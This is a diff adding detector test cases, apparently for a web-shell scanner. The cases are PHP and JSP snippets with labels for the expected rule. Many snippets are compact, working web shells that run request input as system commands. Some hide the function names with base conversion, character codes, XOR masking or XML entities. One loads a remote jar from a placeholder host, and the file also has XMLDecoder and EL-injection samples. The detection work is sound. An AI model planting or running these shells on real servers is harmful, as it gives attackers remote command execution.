@@ -154,6 +154,37 @@ $data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])
 		{"library running its caller's command", "/usr/share/nodejs/shelljs/src/exec.js", "var child = require('child_process');\nfunction execSync(cmd, opts) { return child.execSync(cmd, opts); }\nmodule.exports = execSync;\n", "", ""},
 		{"browser XHR response", "/srv/www/static/app.js", "var request = new XMLHttpRequest();\nrequest.onload = function () { eval(request.responseText); };\nrequest.open('GET', '/bundle.js');\nrequest.send();\n", "", ""},
 
+		// Callbacks written in place are handed the data the builtin is given.
+		{"inline preg_replace_callback", "/var/www/html/c1.php", "<?php\n$t = $_GET['t'];\necho preg_replace_callback('/^.*$/', function ($hit) {\n    return shell_exec($hit[0]);\n}, $t);\n", RuleCommand, "shell_exec()"},
+		{"inline array_walk by reference", "/var/www/html/c2.php", "<?php $list = array($_COOKIE['j']); array_walk($list, function (&$item, $key) { passthru($item); });", RuleCommand, "passthru()"},
+		{"inline array_reduce arrow", "/var/www/html/c3.php", "<?php array_reduce([$_POST['r']], fn($acc, $cur) => system($cur), '');", RuleCommand, "system()"},
+		{"inline callbacks that escape", "/var/www/html/c4.php", "<?php array_walk($_POST, function (&$v) { $v = htmlspecialchars($v); });\necho preg_replace_callback('/[a-z]+/', function ($m) { return ucfirst($m[0]); }, $_GET['s']);", "", ""},
+		// Names folded the way the code computes them.
+		{"assignment in parentheses", "/var/www/html/n1.php", "<?php ($g = 'assert') && ($w = $_POST['w']) && call_user_func($g, $w);", RuleCode, "assert()"},
+		{"name in another base", "/var/www/html/n2.php", "<?php $n = base_convert('1982613383994', 10, 36);\n$n($_GET['c']);", RuleCommand, "passthru()"},
+		{"name from character codes", "/var/www/html/n3.php", "<?php $k = implode('', array_map('chr', [115, 121, 115, 116, 101, 109])); $k($_REQUEST['k']);", RuleCommand, "system()"},
+		{"closure from a callable name", "/var/www/html/n4.php", "<?php $r = Closure::fromCallable('shell' . '_exec'); echo $r($_SERVER['HTTP_X_Q']);", RuleCommand, "shell_exec()"},
+		{"harmless name in another base", "/var/www/html/n5.php", "<?php $id = base_convert($_GET['id'], 36, 10); $f = base_convert('29234652', 10, 36); echo $f($id);", "", ""},
+		// Output buffered into a command.
+		{"output buffer callback", "/var/www/html/o1.php", "<?php ob_start('pass' . 'thru');\nprint $_REQUEST['x'];\nob_end_flush();", RuleCommand, "passthru() via ob_start()"},
+		{"output compression", "/var/www/html/o2.php", "<?php ob_start('ob_gzhandler'); echo htmlspecialchars($_GET['x']);", "", ""},
+		// An object's property set from the request is what its methods read as $this->prop.
+		{"property read by a destructor", "/var/www/html/p1.php", "<?php\nclass Job { public $spec; function __destruct() { system($this->spec); } }\n$j = new Job();\n$j->spec = $_POST['spec'];\n", RuleCommand, "system()"},
+		{"property that picks a registered callback", "/var/www/html/p3.php", "<?php class Screen { public $id; public $tabs = array(); function render() { foreach ($this->tabs[$this->id] as $t) { call_user_func_array($t['callback'], array($this, $t)); } } }\n$s = new Screen(); $s->id = $_REQUEST['post_type']; $s->render();", "", ""},
+		{"property escaped by a method", "/var/www/html/p2.php", "<?php class U { public $name; function show() { echo htmlspecialchars($this->name); } }\n$u = new U(); $u->name = $_POST['n']; $u->show();", "", ""},
+		// A file the page writes from the request, then includes.
+		{"request body written then included", "/var/www/html/w1.php", "<?php file_put_contents('/var/tmp/.c.php', $_POST['c']);\ninclude '/var/tmp/.c.php';", RuleInclude, "uploaded file or the request body"},
+		{"upload moved then required", "/var/www/html/w2.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/tmp/plugin.php');\nrequire_once('/tmp/plugin.php');", RuleInclude, "include"},
+		{"generated cache included", "/var/www/html/w3.php", "<?php $cfg = array('a' => 1); file_put_contents('/tmp/cfg.php', '<?php return ' . var_export($cfg, true) . ';'); $c = include '/tmp/cfg.php'; echo $_GET['x'];", "", ""},
+		// JSP: objects built from XML, classes from the network, names the page decodes.
+		{"XMLDecoder of the request body", "/var/lib/tomcat9/webapps/ROOT/x1.jsp", "<%\njava.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream());\nd.readObject();\n%>\n", RuleCode, "XMLDecoder"},
+		{"classes fetched from the network", "/var/lib/tomcat9/webapps/ROOT/x2.jsp", "<%@ page import=\"java.net.*\" %>\n<%\nURLClassLoader l = new URLClassLoader(new URL[] { new URL(\"https://cdn.example.net/lib/p.jar\") });\nout.print(l.loadClass(\"P\").getConstructor(String.class).newInstance(request.getParameter(\"q\")));\n%>\n", RuleClassLoad, "URLClassLoader"},
+		{"classes from a local directory", "/var/lib/tomcat9/webapps/ROOT/x3.jsp", "<%@ page import=\"java.net.*\" %>\n<%\nURLClassLoader l = new URLClassLoader(new URL[] { new URL(\"file:/opt/app/plugins/\") });\nout.print(l.loadClass(\"Report\").getName() + request.getParameter(\"q\").length());\n%>\n", "", ""},
+		{"reflection on a name the page decodes", "/var/lib/tomcat9/webapps/ROOT/x4.jsp", "<%!\nString unmask(String s) { StringBuilder b = new StringBuilder(); for (char c : s.toCharArray()) b.append((char) (c ^ 7)); return b.toString(); }\n%>\n<%\nClass<?> k = Class.forName(unmask(\"mfqf)kfi`)Urisnjb\"));\nObject rt = k.getMethod(unmask(\"`bsUrisnjb\")).invoke(null);\nk.getMethod(unmask(\"b\u007fbd\"), String.class).invoke(rt, request.getHeader(\"X-T\"));\n%>\n", RuleCode, "unmask()"},
+		{"JSP document with character references", "/var/lib/tomcat9/webapps/ROOT/x5.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">\n<jsp:scriptlet>\nString v = request.getParameter(\"v\");\nRuntime.&#x67;&#x65;&#x74;&#82;&#117;&#110;&#116;&#105;&#109;&#101;().&#x65;&#x78;&#x65;&#x63;(v);\n</jsp:scriptlet>\n</jsp:root>\n", RuleCommand, "Runtime.exec()"},
+		{"EL expression reaching a process", "/var/lib/tomcat9/webapps/ROOT/x6.jsp", "<%@ page isELIgnored=\"false\" %>\n<p>${\"\".getClass().forName(\"java.lang.ProcessBuilder\").getConstructor(\"\".getClass().forName(\"[Ljava.lang.String;\")).newInstance(paramValues.c).start()}</p>\n", RuleCommand, "EL expression"},
+		{"EL expressions reading parameters", "/var/lib/tomcat9/webapps/ROOT/x7.jsp", "<%@ taglib prefix=\"fn\" uri=\"http://java.sun.com/jsp/jstl/functions\" %>\n<p>${fn:escapeXml(param.name)}</p><p>${header['User-Agent']}</p><% out.print(request.getParameter(\"x\") != null); %>\n", "", ""},
+
 		// never code: comments, doc blocks, strings
 		{"doc comment backticks", "/usr/share/wordpress/wp-admin/includes/file.php", "<?php\n/**\n * Handles `$_POST['action']` and runs `system($_GET['x'])` in markdown.\n */\n// eval($_POST['x']);\n# system($_GET['c']);\n$msg = 'system($_GET[\"c\"])';\necho $msg;\n", "", ""},
 		{"escaped command", "/var/www/html/thumb.php", `<?php $f = $_GET['file']; exec('convert ' . escapeshellarg($f) . ' out.png'); ?>`, "", ""},
